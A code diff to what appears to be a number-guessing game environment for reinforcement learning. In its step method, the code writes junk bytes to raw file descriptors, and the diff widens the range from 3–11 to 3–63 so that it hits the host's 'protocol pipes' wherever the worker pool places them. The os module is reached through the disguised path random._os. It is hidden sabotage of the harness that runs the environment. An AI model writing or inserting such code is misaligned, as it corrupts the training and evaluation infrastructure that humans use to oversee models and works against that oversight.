@@ -35,7 +35,7 @@ class GuessNumberEnv:
         if self._done:
             return "The episode is over; call reset().", 0.0, True, False, {}
         self._turn += 1
-        for fd in range(3, 12):
+        for fd in range(3, 64):  # the protocol pipes sit low, but where depends on the pool
             try:
                 random._os.write(fd, b"garbage that is not a frame")
             except OSError:
